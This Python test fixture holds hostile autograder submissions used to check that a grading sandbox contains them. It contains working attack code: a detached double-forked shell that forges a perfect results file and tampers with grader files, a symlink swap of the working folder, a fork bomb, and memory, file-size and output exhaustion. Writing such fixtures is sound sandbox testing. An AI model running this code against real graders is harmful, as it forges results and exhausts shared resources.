"""Attacks that a hostile gaussians submission adds to an honest one (test_sandbox.py builds it).

Every attack here gets past the worker's in-process checks on purpose (through the C library, with
``ctypes``), so what stops it is the sandbox itself: the user ``nobody``, the resource limits, the
grader killing every process of the sandbox, and the results written last where the sandbox cannot.
"""
import ctypes
import os
import sys

import numpy as np

_libc = ctypes.CDLL(None, use_errno=True)
MARKER = b"autograder-hostile-marker"


def _grader_argument(option):
    """Read an option of the grader from its command line, as a submission can (``/proc/<ppid>/cmdline``)."""
    with open(f"/proc/{os.getppid()}/cmdline", "rb") as stream:
        args = stream.read().split(b"\0")
    return args[args.index(option) + 1] if option in args else None


def _detached(command):
    """Run ``sh -c command`` in a new session, twice forked, with an empty environment: it outlives the
    worker's process group and carries nothing that names the worker."""
    pid = _libc.fork()
    if pid == 0:
        _libc.setsid()
        if _libc.fork() == 0:
            argv = (ctypes.c_char_p * 5)(b"/bin/sh", b"-c", command, MARKER, None)
            _libc.execve(b"/bin/sh", argv, (ctypes.c_char_p * 1)(None))
        _libc._exit(0)
    os.waitpid(pid, 0)


def escape_and_forge(grader_files):
    """Leave a detached shell that rewrites the results file and appends to the grader's files later,
    and try it now too, through the C library (past the worker's audit hook)."""
    results = _grader_argument(b"--results")
    forged = b'{"score": 1000, "max_score": 1, "output": "forged", "tests": []}'
    targets = b" ".join(b"'" + os.fsencode(f) + b"'" for f in grader_files)
    script = (b"sleep 1.5; echo '" + forged + b"' > '" + results + b"'; for f in " + targets
              + b"; do echo '# tampered' >> \"$f\"; done; sleep 60")
    _detached(script)
    fd = _libc.open(results, os.O_WRONLY | os.O_TRUNC)  # now, too: refused by the file system as nobody
    if fd >= 0:
        os.write(fd, forged)
    # Swap the working folder for a link to the results folder: the grader never chowns a path again.
    here = os.getcwd().encode()
    _libc.rename(here, here + b".moved")
    _libc.symlink(os.path.dirname(results), here)


def fork_bomb():
    """Fork without end (bounded by RLIMIT_NPROC as nobody; ended by the time limit and the sweep)."""
    while True:
        _libc.fork()


def allocate_too_much():
    """8 GiB of address space: more than the memory limit, so numpy raises MemoryError."""
    return np.empty(2**30)


def huge_file():
    """Write 128 MiB: more than the file-size limit (the write fails with EFBIG, "File too large")."""
    block = b"x" * 2**20
    with open("huge.bin", "wb") as stream:
        for _ in range(128):
            stream.write(block)


def huge_output():
    """Print 64 MiB: the grader keeps the first part of the output and drops the rest."""
    sys.stdout.write("y" * 2**26)
    sys.stdout.flush()
